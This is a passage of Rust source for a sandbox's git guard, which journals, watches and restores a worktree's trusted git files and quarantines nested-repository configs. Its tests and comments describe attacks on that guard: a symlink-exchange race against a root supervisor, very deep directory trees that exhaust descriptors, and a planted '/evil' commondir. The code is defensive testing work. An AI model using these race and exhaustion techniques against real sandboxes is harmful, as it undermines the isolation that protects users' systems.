    let Ok(names) = paths::list(&dir.fd) else {
        return out;
    };
    for name in names {
        let Some(name) = name.to_str() else { continue };
        if !name.starts_with(&prefix) || !name.ends_with(".json") {
            continue;
        }
        let path = dir.path.join(name);
        let ignore = |why: &str| {
            eprintln!(
                "shofer-sandbox: warning: ignoring the git-guard journal {}: {why}; nothing in it was restored",
                path.display()
            );
        };
        let v = match shofer_sys::statedir::read_file(&dir.fd, name, MAX_JOURNAL)
            .map_err(|e| e.to_string())
            .and_then(|raw| String::from_utf8(raw).map_err(|e| e.to_string()))
            // from_str, as everywhere in the sandbox: from_slice would link a second copy of
            // the JSON reader into the size-bounded static binary.
            .and_then(|text| serde_json::from_str::<Value>(&text).map_err(|e| e.to_string()))
        {
            Ok(v) => v,
            Err(e) => {
                ignore(&e);
                continue;
            }
        };
        if v["worktree"].as_str() != worktree.to_str() {
            continue;
        }
        let pid = v["pid"].as_i64().unwrap_or(0) as libc::pid_t;
        if pid > 0 && start_time(pid).is_some_and(|t| Some(t) == v["start"].as_u64()) {
            continue; // its supervisor still runs and will restore itself
        }
        match journal_entries(&v, worktree, &mut out) {
            Ok(entries) => {
                let guard = GitGuard {
                    entries,
                    dot_git: None,
                    journal: None,
                    nested: None,
                    index: None,
                    common_names: None,
                    common_top_writable: true,
                    notes: Vec::new(),
                };
                let r = guard.restore();
                let clean = r.failed.is_empty();
                out.merge(r);
                if clean && out.failed.is_empty() {
                    let _ = std::fs::remove_file(&path);
                }
            }
            Err(why) => ignore(&why),
        }
    }
    out
}

/// The entries of the journal `v` of `worktree`, each checked (see [`repair`]): `Err` names
/// the first that fails. A directory that is gone is a failed restore in `out`.
fn journal_entries(v: &Value, worktree: &Path, out: &mut Restored) -> Result<Vec<Guarded>, String> {
    let list = v["entries"].as_array().ok_or("no entries")?;
    let mut parsed = Vec::new();
    for e in list {
        let (Some(d), Some(n), Some(state)) = (
            e["dir"].as_str(),
            e["name"].as_str(),
            state_from_json(&e["state"]),
        ) else {
            return Err("an entry that is not one a journal holds".into());
        };
        if !one_component(n) {
            return Err(format!("the entry name {n:?} is not one path component"));
        }
        parsed.push((PathBuf::from(d), n.to_string(), state));
    }
    // The journal's own copy of the worktree's `.git` pointer (its gitdir may be validated
    // with it: see JournalScope).
    let pointer = parsed.iter().find_map(|(d, n, s)| match s {
        State::File { data, .. } if n == ".git" && d == worktree => Some(data.as_slice()),
        _ => None,
    });
    let scope = JournalScope::of(worktree, pointer);
    let mut entries = Vec::new();
    for (d, n, state) in parsed {
        match paths::open_nofollow(&d) {
            Ok(fd) if !scope.holds(&fd) => {
                return Err(format!(
                    "it names {}, which is not in this worktree, its gitdir or its common dir",
                    d.join(&n).display()
                ))
            }
            Ok(fd) => entries.push(Guarded {
                dir: fd,
                dir_path: d,
                dir_mode: None,
                name: n,
                original: state,
                own_mode: None,
            }),
            Err(err) => out
                .failed
                .push((d.join(&n), format!("opening its directory: {err}"))),
        }
    }
    Ok(entries)
}

/// The watcher: a thread that restores guarded entries as soon as they change (the Landlock
/// backend) and quarantines nested repositories' program-naming configs (every backend).
pub struct Watcher {
    stop: OwnedFd,
    gate: OwnedFd,
    thread: Option<std::thread::JoinHandle<(Restored, OwnedFd)>>,
}

impl Watcher {
    /// Starts watching `guard`'s directories; `restore` is false where the backend makes the
    /// guarded entries read-only (then only what the command makes at an absent guarded name
    /// is removed: [`GitGuard::restore_absent`]). The thread blocks every signal (they belong to the
    /// supervisor's `sigwaitinfo` loop) and waits at a gate, without allocating, until
    /// [`Self::open_gate`]: a namespace backend's fork-like clone must not copy a thread that
    /// holds the allocator's lock.
    ///
    /// # Errors
    /// inotify_init1(2), pipe2(2) or thread creation failures.
    pub fn start(guard: Arc<Mutex<GitGuard>>, restore: bool) -> io::Result<Watcher> {
        let ino = inotify(rustix::fs::inotify::CreateFlags::empty())?;
        let (dirs, files) = guard
            .lock()
            .map(|g| (g.watched(), g.watched_files()))
            .unwrap_or_default();
        let wds = add_watches(&ino, dirs, files);
        let (stop_read, stop_write) = shofer_sys::fd::pipe_cloexec()?;
        let (gate_read, gate_write) = shofer_sys::fd::pipe_cloexec()?;
        let (ready_read, ready_write) = shofer_sys::fd::pipe_cloexec()?;
        let thread = shofer_sys::process::spawn_signals_blocked("shofer-git-watch", move || {
            let mut b = [0u8; 1];
            // One byte to and from our own pipes; no allocation between telling the
            // supervisor we are ready and the gate opening.
            let _ = rustix::io::write(&ready_write, b"r");
            let _ = rustix::io::read(&gate_read, &mut b);
            drop(ready_write);
            watch_loop(ino, wds, stop_read, guard, restore)
        });
        let thread = thread?;
        // One byte from our pipe: the thread is at the gate.
        let _ = rustix::io::read(&ready_read, &mut [0u8; 1]);
        Ok(Watcher {
            stop: stop_write,
            gate: gate_write,
            thread: Some(thread),
        })
    }

    /// Lets the watcher run (once the sandbox's processes exist).
    pub fn open_gate(&self) {
        let _ = rustix::io::write(&self.gate, b"g");
    }

    /// The gate's write end, for the supervisor to open right after it spawned the command.
    pub fn gate_fd(&self) -> std::os::fd::RawFd {
        self.gate.as_raw_fd()
    }

    /// Stops the watcher and returns what it did during the run.
    pub fn stop(mut self) -> Restored {
        self.open_gate();
        let _ = rustix::io::write(&self.stop, b"x");
        let Some((done, ino)) = self.thread.take().and_then(|t| t.join().ok()) else {
            return Restored::default();
        };
        // The last close of an inotify instance waits for the kernel to free its marks (an
        // SRCU grace period: 5-25 ms measured on 6.18, against a 1-3 ms run), and so would our
        // exit: a child process takes that wait instead. (The watcher stops only at the end
        // of the run, just before the supervisor exits.)
        shofer_sys::process::close_after_exit(ino);
        done
    }
}

/// A new inotify(7) instance, close-on-exec, with `flags` (`IN_NONBLOCK`) besides.
fn inotify(flags: rustix::fs::inotify::CreateFlags) -> io::Result<OwnedFd> {
    use rustix::fs::inotify::CreateFlags;
    Ok(rustix::fs::inotify::init(CreateFlags::CLOEXEC | flags)?)
}

/// Watches each of `dirs` (changes of their entries, and of the directory itself) and each of
/// `files` (their data, attributes and link count) on the inotify instance `ino`; returns the
/// watch descriptors with their path. A path that cannot be watched (gone, a symlink, not the
/// kind expected) is left out.
fn add_watches(
    ino: &OwnedFd,
    dirs: Vec<PathBuf>,
    files: Vec<PathBuf>,
) -> Vec<(libc::c_int, PathBuf)> {
    let dir_mask = libc::IN_MODIFY
        | libc::IN_ATTRIB
        | libc::IN_CLOSE_WRITE
        | libc::IN_MOVED_FROM
        | libc::IN_MOVED_TO
        | libc::IN_CREATE
        | libc::IN_DELETE
        | libc::IN_DELETE_SELF
        | libc::IN_MOVE_SELF
        | libc::IN_ONLYDIR;
    let file_mask = libc::IN_MODIFY | libc::IN_ATTRIB | libc::IN_CLOSE_WRITE;
    let mut wds = Vec::with_capacity(dirs.len() + files.len());
    let all = dirs.into_iter().map(|d| (d, dir_mask));
    for (path, mask) in all.chain(files.into_iter().map(|f| (f, file_mask))) {
        // IN_DONT_FOLLOW keeps a symlink planted there from redirecting the watch.
        let flags = rustix::fs::inotify::WatchFlags::from_bits_retain(mask | libc::IN_DONT_FOLLOW);
        if let Ok(wd) = rustix::fs::inotify::add_watch(ino, &path, flags) {
            wds.push((wd, path));
        }
    }
    wds
}

/// [`add_watches`] again for `g`'s paths, after a watched directory or file was replaced:
/// the new ones are watched, the descriptors of the ones still watched stay.
fn rewatch(ino: &OwnedFd, wds: &mut Vec<(libc::c_int, PathBuf)>, g: &GitGuard) {
    for (wd, path) in add_watches(ino, g.watched(), g.watched_files()) {
        match wds.iter_mut().find(|(w, _)| *w == wd) {
            Some(known) => known.1 = path,
            None => wds.push((wd, path)),
        }
    }
}

/// Says on stderr what a pass did.
pub fn announce(r: &Restored, how: &str) {
    for p in &r.restored {
        eprintln!(
            "shofer-sandbox: warning: the command changed {}, which a host program trusts (git, an agent, an editor); {how}",
            p.display()
        );
    }
    for q in &r.quarantined {
        eprintln!(
            "shofer-sandbox: warning: {} names a program ({}) and belongs to a repository the host's git enters through a gitlink; moved to {}",
            q.path.display(),
            q.key,
            q.moved_to.display()
        );
    }
    for (p, e) in &r.failed {
        eprintln!(
            "shofer-sandbox: error: the command changed {}, which a host program trusts (git, an agent, an editor), and it could not be restored: {e}",
            p.display()
        );
    }
}

/// How often gitlinked repositories are checked again while any exist (their config can
/// change without an event in a watched directory), and guarded entries compared with the
/// snapshot where they are restored (a write through a shared mapping raises no event).
const RECHECK_MS: u64 = 200;

/// What a batch of inotify events asks of the watcher.
#[derive(Debug, Default, PartialEq, Eq)]
struct Wanted {
    /// A live restore pass (a guarded entry may have changed).
    restore: bool,
    /// A nested check (the index may have changed).
    nested: bool,
    /// The watches are added again (a watched directory or file was replaced).
    rewatch: bool,
}

/// Everything, for a batch of events the watcher cannot place.
const ALL: Wanted = Wanted {
    restore: true,
    nested: true,
    rewatch: true,
};

/// Reads a batch of inotify(7) events (`struct inotify_event`: watch descriptor, mask,
/// cookie, name length, then the NUL-padded name) against the watched directories `wds`.
/// Anything it cannot place — a queue overflow, an unknown watch, a watched directory itself
/// changed, moved or gone, a short record — asks for everything.
fn wanted(events: &[u8], wds: &[(libc::c_int, PathBuf)], g: &GitGuard) -> Wanted {
    const HEADER: usize = std::mem::size_of::<libc::inotify_event>();
    let word = |at: usize| u32::from_ne_bytes(events[at..at + 4].try_into().expect("4 bytes"));
    let mut w = Wanted::default();
    let mut at = 0;
    while at < events.len() {
        if events.len() - at < HEADER {
            return ALL;
        }
        let (wd, mask, len) = (
            word(at) as libc::c_int,
            word(at + 4),
            word(at + 12) as usize,
        );
        let Some(name) = events.get(at + HEADER..at + HEADER + len) else {
            return ALL;
        };
        at += HEADER + len;
        let whole_dir =
            libc::IN_Q_OVERFLOW | libc::IN_DELETE_SELF | libc::IN_MOVE_SELF | libc::IN_IGNORED;
        let Some((_, dir)) = wds.iter().find(|(d, _)| *d == wd) else {
            return ALL;
        };
        let name = &name[..name.iter().position(|&b| b == 0).unwrap_or(name.len())];
        if mask & whole_dir != 0 || name.is_empty() {
            // A watched directory itself (its mode, its place) or a guarded file (written
            // through another link): every entry is in question.
            return ALL;
        }
        w.restore |= g.guards(dir, name);
        w.nested |= g.is_index(dir, name);
    }
    w
}

/// Returns what it did and the inotify instance, for the caller to close off its exit path.
/// The nested check runs on a thread of its own ([`nested_loop`]), woken by index changes:
/// however long it takes, restores go on.
fn watch_loop(
    ino: OwnedFd,
    mut wds: Vec<(libc::c_int, PathBuf)>,
    stop: OwnedFd,
    guard: Arc<Mutex<GitGuard>>,
    restore: bool,
) -> (Restored, OwnedFd) {
    let mut total = Restored::default();
    let mut buf = vec![0u8; 64 * 1024];
    let recheck = std::time::Duration::from_millis(RECHECK_MS);
    let mut last_pass = std::time::Instant::now();
    let scan = guard.lock().ok().and_then(|g| g.nested.clone());
    // The nested thread's wake-up (an eventfd) and its end (set, then signalled).
    let wake = shofer_sys::fd::eventfd().ok();
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let nested = scan
        .zip(wake.as_ref().and_then(|w| w.try_clone().ok()))
        .and_then(|(scan, woken)| {
            let done = Arc::clone(&done);
            std::thread::Builder::new()
                .name("shofer-git-nested".into())
                .spawn(move || nested_loop(&scan, &woken, &done))
                .ok()
        });
    loop {
        use rustix::event::{PollFd, PollFlags};
        let mut fds = [
            PollFd::new(&ino, PollFlags::IN),
            PollFd::new(&stop, PollFlags::IN),
        ];
        // A write through a shared mapping (mmap(2)) raises no inotify event: where entries
        // are restored, a pass also runs at least every RECHECK_MS, however busy the
        // watched directories are.
        let timeout = restore.then(|| {
            rustix::event::Timespec::try_from(recheck.saturating_sub(last_pass.elapsed()))
                .unwrap_or_default()
        });
        let Ok(n) = rustix::event::poll(&mut fds, timeout.as_ref()) else {
            continue;
        };
        if !fds[1].revents().is_empty() {
            break;
        }
        let Ok(g) = guard.lock() else {
            total.failed.push(poisoned("the restore"));
            break;
        };
        let mut want = if n == 0 {
            Wanted::default()
        } else {
            match rustix::io::read(&ino, &mut buf[..]) {
                Ok(got) => wanted(&buf[..got], &wds, &g),
                Err(_) => ALL,
            }
        };
        if want.nested {
            if let Some(w) = &wake {
                shofer_sys::fd::eventfd_signal(w);
            }
        }
        want.restore |= last_pass.elapsed() >= recheck;
        let r = if restore && want.restore {
            last_pass = std::time::Instant::now();
            g.restore_live()
        } else if want.restore && n > 0 {
            // A name is made with an inotify event, never through a mapping: no pass on a
            // timer for these.
            g.restore_absent()
        } else {
            Restored::default()
        };
        if want.rewatch || !r.restored.is_empty() {
            rewatch(&ino, &mut wds, &g);
        }
        announce(&r, "restored at once");
        total.merge(r);
    }
    done.store(true, std::sync::atomic::Ordering::SeqCst);
    if let Some(w) = &wake {
        shofer_sys::fd::eventfd_signal(w);
    }
    match nested.map(|t| t.join()) {
        Some(Ok(done)) => total.merge(done),
        Some(Err(_)) => total.failed.push(poisoned("the nested check")),
        None => {}
    }
    (total, ino)
}

/// What no backend enforces yet for nested repositories (issue 29, F4), said once per run on
/// stderr when the index first lists a gitlink, and in the report
/// ([`crate::report`]: `git.not_enforced`). No backend yet keeps the host-visible index free
/// of the command's gitlinks during the run (the construction that would: the command's git
/// writes a private index, published when the run has ended and every nested repository
/// has been checked), so a configuration the command writes there between two checks can be
/// read by a host git run in the worktree meanwhile.
pub const NESTED_GAP: &str = "hardening not enforced (nested_repositories_during_run): the index lists a gitlink; a nested repository's config the command writes while it runs is checked when the index changes, every 200 ms and at exit, and a host git run in the worktree between a write and its check can read it; after the run only configurations whose every key is on the allow-list remain";

/// The nested check's thread: one check at once (the index may have changed before the
/// gate opened), one at each wake-up from the watcher, and every [`RECHECK_MS`]
/// while gitlinks exist (their repositories' configs and indexes can change without an
/// event in a watched directory) or the last check failed. Ends when the watcher sets `done`
/// and signals `woken` (an eventfd).
fn nested_loop(
    scan: &Mutex<NestedScan>,
    woken: &OwnedFd,
    done: &std::sync::atomic::AtomicBool,
) -> Restored {
    use std::os::fd::AsFd;
    let mut total = Restored::default();
    let mut gap_named = false;
    loop {
        let (c, links) = match scan.lock() {
            Ok(mut s) => s.check(),
            Err(_) => {
                total.failed.push(poisoned("the nested check"));
                break;
            }
        };
        if links > 0 && !gap_named {
            gap_named = true;
            eprintln!("shofer-sandbox: {NESTED_GAP}");
        }
        // A check that could not finish is tried again on the timer as well.
        let again = links > 0 || !c.failed.is_empty();
        let r = Restored {
            quarantined: c.quarantined,
            failed: c.failed,
            ..Restored::default()
        };
        announce(&r, "moved aside at once");
        total.merge(r);
        let timeout = if again { RECHECK_MS as i32 } else { -1 };
        if shofer_sys::fd::poll_readable(&[woken.as_fd()], timeout).is_err() {
            break;
        }
        shofer_sys::fd::eventfd_drain(woken);
        if done.load(std::sync::atomic::Ordering::SeqCst) {
            break;
        }
    }
    total
}

fn read_file(dir: &OwnedFd, name: &str) -> io::Result<(Vec<u8>, u32)> {
    let bytes = paths::read_small_file(dir, name, MAX_FILE)?;
    Ok((bytes, paths::stat_at(dir, name)?.st_mode & 0o7777))
}

/// `name` in `dir`, not followed (fstatat(2), `AT_SYMLINK_NOFOLLOW`).
/// The link count of `name` in `dir` (not followed; 0 when it cannot be read).
fn links(dir: &OwnedFd, name: &(impl AsRef<OsStr> + ?Sized)) -> u64 {
    rustix::fs::statat(dir, name.as_ref(), rustix::fs::AtFlags::SYMLINK_NOFOLLOW)
        .map_or(0, |st| st.st_nlink)
}

fn read_state(dir: &OwnedFd, name: &str) -> State {
    try_read_state(dir, name).unwrap_or_else(|e| State::Unguardable(e.to_string()))
}

/// [`read_state`], with a failure to read left an error.
fn try_read_state(dir: &OwnedFd, name: &str) -> io::Result<State> {
    let fd = match paths::openat_path(dir, Path::new(name)) {
        Ok(fd) => fd,
        Err(e) if e.raw_os_error() == Some(libc::ENOENT) => return Ok(State::Absent),
        Err(e) => return Err(e),
    };
    Ok(match paths::kind(&fd)? {
        Kind::File => {
            let (data, mode) = read_file(dir, name)?;
            State::File { data, mode }
        }
        Kind::Dir => State::Dir(read_dir_files(dir, name)?),
        Kind::Symlink => State::Unguardable("a symlink".into()),
        Kind::Special => State::Unguardable("not a regular file".into()),
    })
}

/// The regular files directly in directory `name` (sorted), for `hooks/`.
fn read_dir_files(parent: &OwnedFd, name: &str) -> io::Result<Vec<(String, Vec<u8>, u32)>> {
    let dir = open_dir(parent, name)?;
    let mut out = Vec::new();
    for entry in paths::list(&dir)? {
        if is_aside(&entry) {
            continue;
        }
        if out.len() >= MAX_ENTRIES {
            return Err(io::Error::other(format!("more than {MAX_ENTRIES} entries")));
        }
        // Kept as text (the journal's); restores remove such a name like any other new one.
        let entry = entry.into_string().map_err(|n| {
            io::Error::other(format!("{:?} is not a UTF-8 name", n.to_string_lossy()))
        })?;
        let fd = paths::openat_path(&dir, Path::new(&entry))?;
        if paths::kind(&fd)? != Kind::File {
            return Err(io::Error::other(format!("{entry} is not a regular file")));
        }
        let (data, mode) = read_file(&dir, &entry)?;
        out.push((entry, data, mode));
    }
    out.sort();
    Ok(out)
}

fn open_dir(parent: &OwnedFd, name: &(impl AsRef<OsStr> + ?Sized)) -> io::Result<OwnedFd> {
    paths::openat_dir(parent, Path::new(name.as_ref()))
}

/// The prefix of the names [`remove`] renames entries to.
const ASIDE_PREFIX: &str = ".shofer-removed-";

/// Whether `name` is one [`remove`] made: passes leave such names alone (no program reads
/// them; removing one again would only rename it again, and the rename's own inotify event
/// would start another pass).
fn is_aside(name: &OsStr) -> bool {
    name.as_encoded_bytes().starts_with(ASIDE_PREFIX.as_bytes())
}

/// How many entries [`remove`] renamed aside during this run ([`report_asides`]).
static ASIDES: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

/// Removes `name` under `dir` whatever it is now (file, symlink, or directory tree), in one
/// step: the entry is renamed to an unpredictable `.shofer-removed-*` name in the same
/// directory (`RENAME_NOREPLACE`), which no host program reads and every pass leaves alone.
/// The aside is never taken apart by the supervisor: what lies under that name when the run
/// ends is whatever the command put there — a fresh attack moved a directory holding the
/// user's read-only hooks to an aside's name, and the supervisor's removal (which sees no
/// bind on the host) destroyed them. So a tree of millions of entries costs one rename, the
/// watcher is never held up, a command that renames the aside back only raises another event,
/// and a supervisor killed meanwhile leaves the harmless name; the user finds the command's
/// version beside the name ([`report_asides`]). Where the rename cannot be made (a mount point,
/// a directory the caller may not write), the entry is taken apart in place, at most
/// [`crate::git::remove::BUDGET`] entries.
fn remove(dir: &OwnedFd, name: &(impl AsRef<OsStr> + ?Sized)) -> io::Result<()> {
    remove_aside(dir, name).map(|_| ())
}

/// [`remove`], returning the aside name the entry went to (`None`: it was absent already, or
/// taken apart in place).
fn remove_aside(dir: &OwnedFd, name: &(impl AsRef<OsStr> + ?Sized)) -> io::Result<Option<String>> {
    let aside = format!("{ASIDE_PREFIX}{}", shofer_sys::statedir::random_suffix());
    match rustix::fs::renameat_with(
        dir,
        name.as_ref(),
        dir,
        aside.as_str(),
        rustix::fs::RenameFlags::NOREPLACE,
    ) {
        Ok(()) => {
            ASIDES.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            return Ok(Some(aside));
        }
        Err(rustix::io::Errno::NOENT) => return Ok(None),
        Err(_) => {}
    }
    let mut budget = crate::git::remove::BUDGET;
    match crate::git::remove::take_apart(dir, name.as_ref(), &mut budget, &|| false)? {
        crate::git::remove::Removal::Gone => Ok(None),
        crate::git::remove::Removal::Unfinished => {
            Err(io::Error::other("more entries than a removal takes"))
        }
    }
}

/// At the end of a run (or a repair): one line saying how many of the command's versions of
/// protected names were moved aside, and where to find them.
pub fn report_asides() {
    let n = ASIDES.swap(0, std::sync::atomic::Ordering::Relaxed);
    if n > 0 {
        eprintln!(
            "shofer-sandbox: note: {n} thing(s) the command made at protected names were moved to {ASIDE_PREFIX}* names beside them (no program reads those names): look at them, then remove them"
        );
    }
}

/// Writes `data` with `mode` to a fresh, unpredictable temporary name in `dir` and renames it
/// over `name` (which replaces a symlink or file there, never following it). A directory the
/// command made read-only gets its owner's write and search bits back first.
fn write_over(dir: &OwnedFd, name: &str, data: &[u8], mode: u32) -> io::Result<()> {
    match write_over_once(dir, name, data, mode) {
        Err(e) if matches!(e.raw_os_error(), Some(libc::EACCES | libc::EPERM)) => {
            paths::chmod_pinned(dir, mode_of(dir)? | 0o700)?;
            write_over_once(dir, name, data, mode)
        }
        other => other,
    }
}

fn write_over_once(dir: &OwnedFd, name: &str, data: &[u8], mode: u32) -> io::Result<()> {
    let tmp = format!(
        ".{name}.shofer-restore-{}",
        shofer_sys::statedir::random_suffix()
    );
    use rustix::fs::{Mode, OFlags};
    // O_EXCL|O_NOFOLLOW creates a new file only.
    let flags = OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC;
    let fd = rustix::fs::openat(dir, tmp.as_str(), flags, Mode::from_bits_retain(mode))?;
    let mut file = std::fs::File::from(fd);
    if let Err(e) = file.write_all(data) {
        drop(file);
        let _ = remove(dir, &tmp);
        return Err(e);
    }
    drop(file);
    let renamed = match rustix::fs::renameat(dir, tmp.as_str(), dir, name) {
        Err(rustix::io::Errno::ISDIR | rustix::io::Errno::NOTEMPTY) => {
            remove(dir, name)?;
            rustix::fs::renameat(dir, tmp.as_str(), dir, name)
        }
        other => other,
    };
    if let Err(e) = renamed {
        let _ = remove(dir, &tmp);
        return Err(e.into());
    }
    Ok(())
}

fn put_back(dir: &OwnedFd, name: &str, original: &State, now: &State) -> io::Result<()> {
    match original {
        State::Absent => remove(dir, name),
        State::File { data, mode } => write_over(dir, name, data, *mode),
        State::Dir(entries) => {
            if !matches!(now, State::Dir(_)) {
                remove(dir, name)?;
                rustix::fs::mkdirat(dir, name, rustix::fs::Mode::from_bits_retain(0o755))?;
            }
            let sub = open_dir(dir, name)?;
            let keep: Vec<&OsStr> = entries.iter().map(|(n, _, _)| n.as_ref()).collect();
            for entry in paths::list(&sub)? {
                if !keep.contains(&entry.as_os_str()) && !is_aside(&entry) {
                    remove(&sub, &entry)?;
                }
            }
            for (n, data, mode) in entries {
                let same = links(&sub, n) <= 1
                    && read_file(&sub, n)
                        .map(|(d, m)| &d == data && m == *mode)
                        .unwrap_or(false);
                if !same {
                    write_over(&sub, n, data, *mode)?;
                }
            }
            Ok(())
        }
        State::Unguardable(_) => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A tree 20,000 directories deep (as many as the descriptors a process may hold here;
    /// the command can build one in a guarded place, such as
    /// `hooks/`) is removed without recursion: the old recursive removal ran out of
    /// descriptors or overflowed the watcher thread's stack, and the supervisor died.
    #[test]
    fn a_very_deep_tree_is_removed_without_recursion() {
        let s = tempfile::tempdir().unwrap();
        let root = paths::open_dir_at_path(s.path()).unwrap();
        std::fs::create_dir(s.path().join("top")).unwrap();
        let mut at: std::fs::File = std::fs::File::open(s.path().join("top")).unwrap();
        for _ in 0..20_000 {
            use rustix::fs::{Mode, OFlags};
            rustix::fs::mkdirat(&at, "d", Mode::from_bits_retain(0o755)).unwrap();
            let fd =
                rustix::fs::openat(&at, "d", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty());
            at = std::fs::File::from(fd.unwrap());
        }
        std::fs::write(format!("/proc/self/fd/{}/f", at.as_raw_fd()), "x").unwrap();
        drop(at);
        // The name goes at once, to an aside name that the one remover then takes apart
        // whole (the tempdir's own recursive removal would overflow the stack on it).
        remove(&root, "top").unwrap();
        assert!(!s.path().join("top").exists());
        let aside = std::fs::read_dir(s.path())
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .find(|n| n.to_string_lossy().starts_with(".shofer-removed-"))
            .expect("the rest of the tree, aside");
        let mut budget = crate::git::remove::BUDGET;
        let done = crate::git::remove::take_apart(&root, &aside, &mut budget, &|| false);
        assert!(matches!(done, Ok(crate::git::remove::Removal::Gone)));
    }

    /// The one remover on a whole tree, as [`remove`] did before it only renamed.
    fn take_apart_whole(dir: &OwnedFd, name: &str) -> io::Result<()> {
        let mut budget = crate::git::remove::BUDGET;
        match crate::git::remove::take_apart(dir, name.as_ref(), &mut budget, &|| false)? {
            crate::git::remove::Removal::Gone => Ok(()),
            crate::git::remove::Removal::Unfinished => Err(io::Error::other("unfinished")),
        }
    }

    /// A tree the command made with directories it cannot write (mode 0500: nothing can be
    /// moved out of them, not even by their owner, until the mode is restored) is removed as
    /// its owner, not only as root (as uid 65534 the restore gave up after a million passes,
    /// 18 s). A tree holding a directory of another owner fails at once. Root runs it again
    /// as uid 65534, from a copy of this test binary that uid can execute.
    #[test]
    fn a_tree_of_unwritable_directories_is_removed_as_their_owner() {
        const AS_NOBODY: &str = "SHOFER_TEST_REMOVE_AS_NOBODY";
        if rustix::process::geteuid().is_root() && std::env::var_os(AS_NOBODY).is_none() {
            use std::os::unix::fs::PermissionsExt;
            use std::os::unix::process::CommandExt;
            let s = tempfile::tempdir().unwrap();
            std::fs::set_permissions(s.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
            let foreign = s.path().join("foreign");
            std::fs::create_dir_all(foreign.join("top/root-owned")).unwrap();
            std::fs::write(foreign.join("top/root-owned/f"), "x").unwrap();
            std::os::unix::fs::chown(&foreign, Some(65534), Some(65534)).unwrap();
            std::os::unix::fs::chown(foreign.join("top"), Some(65534), Some(65534)).unwrap();
            let exe = s.path().join("test");
            std::fs::copy(std::env::current_exe().unwrap(), &exe).unwrap();
            let out = std::process::Command::new(&exe)
                .args([
                    "--exact",
                    "git::guard::tests::a_tree_of_unwritable_directories_is_removed_as_their_owner",
                    "--nocapture",
                ])
                .env(AS_NOBODY, &foreign)
                .current_dir("/")
                .uid(65534)
                .gid(65534)
                .output()
                .unwrap();
            let text = String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr);
            assert!(out.status.success() && text.contains("1 passed"), "{text}");
            return;
        }
        let s = tempfile::tempdir().unwrap();
        let top = s.path().join("top");
        std::fs::create_dir_all(top.join("a/b/c/d")).unwrap();
        std::fs::write(top.join("a/b/f"), "x").unwrap();
        std::fs::create_dir_all(top.join("e/g")).unwrap();
        for (d, mode) in [("a/b/c", 0o500), ("a/b", 0o500), ("a", 0o500), ("e", 0o000)] {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(top.join(d), std::fs::Permissions::from_mode(mode)).unwrap();
        }
        let root = paths::open_dir_at_path(s.path()).unwrap();
        let began = std::time::Instant::now();
        let removed = take_apart_whole(&root, "top");
        assert!(removed.is_ok(), "{removed:?} after {:?}", began.elapsed());
        assert!(!top.exists());
        let root_now = rustix::process::geteuid().is_root();
        if let (Some(foreign), false) = (std::env::var_os(AS_NOBODY), root_now) {
            let dir = paths::open_dir_at_path(Path::new(&foreign)).unwrap();
            let began = std::time::Instant::now();
            let removed = take_apart_whole(&dir, "top");
            assert!(removed.is_err(), "root's directory went");
            assert!(
                began.elapsed() < std::time::Duration::from_secs(2),
                "{:?}",
                began.elapsed()
            );
        }
    }

    /// The command moves the worktree's `.git` into `d/x` and keeps exchanging `d` with a
    /// symlink to a directory outside that holds a file `x`: the restore brings the real
    /// `.git` back or fails, and never moves the outside file (an audit made a root
    /// supervisor move a host file into the worktree that way; in-process the old restore
    /// lost this race within a second).
    #[test]
    fn a_dot_git_restore_follows_no_symlink_swapped_in_on_the_way() {
        let s = tempfile::tempdir().unwrap();
        let (wt, outside) = (s.path().join("wt"), s.path().join("outside"));
        for d in [wt.join(".git"), wt.join("d"), outside.clone()] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(outside.join("x"), "host file").unwrap();
        std::os::unix::fs::symlink(&outside, wt.join("s")).unwrap();
        let original = paths::open_nofollow(&wt.join(".git")).unwrap();
        let dot = DotGitDir {
            worktree: paths::open_nofollow(&wt).unwrap(),
            worktree_path: wt.clone(),
            identity: paths::identity(&original).unwrap(),
            original,
        };
        std::fs::rename(wt.join(".git"), wt.join("d/x")).unwrap();
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let swapper = {
            let (stop, wt) = (Arc::clone(&stop), wt.clone());
            std::thread::spawn(move || {
                let dir = paths::open_nofollow(&wt).unwrap();
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let exchange = rustix::fs::RenameFlags::EXCHANGE;
                    let _ = rustix::fs::renameat_with(&dir, "d", &dir, "s", exchange);
                }
            })
        };
        let until = std::time::Instant::now() + std::time::Duration::from_secs(2);
        let mut moved_outside = false;
        while std::time::Instant::now() < until && !moved_outside {
            if dot.restore().is_ok() {
                // Back: the command moves it away again (wherever `d` is now).
                let _ = std::fs::rename(wt.join(".git"), wt.join("d/x"))
                    .or_else(|_| std::fs::rename(wt.join(".git"), wt.join("s/x")));
            }
            moved_outside = !outside.join("x").is_file();
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        swapper.join().unwrap();
        assert!(outside.join("x").is_file(), "the outside file was moved");
    }

    fn setup() -> (tempfile::TempDir, PathBuf, GitLayout) {
        let tmp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(tmp.path()).unwrap();
        let gitdir = root.join("repo/.git/worktrees/wt");
        std::fs::create_dir_all(&gitdir).unwrap();
        std::fs::write(gitdir.join("commondir"), "../..\n").unwrap();
        std::fs::write(gitdir.join("gitdir"), "/x/wt/.git\n").unwrap();
        let layout = GitLayout::Linked {
            gitdir,
            common: root.join("repo/.git"),
        };
        (tmp, root, layout)
    }

    #[test]
    fn a_changed_commondir_and_a_planted_config_worktree_are_put_back() {
        let (_t, root, layout) = setup();
        let guard = GitGuard::snapshot(
            &layout,
            &root,
            &Default::default(),
            std::slice::from_ref(&root),
        );
        let GitLayout::Linked { gitdir, .. } = &layout else {
            unreachable!()
        };
        std::fs::write(gitdir.join("commondir"), "/evil\n").unwrap();
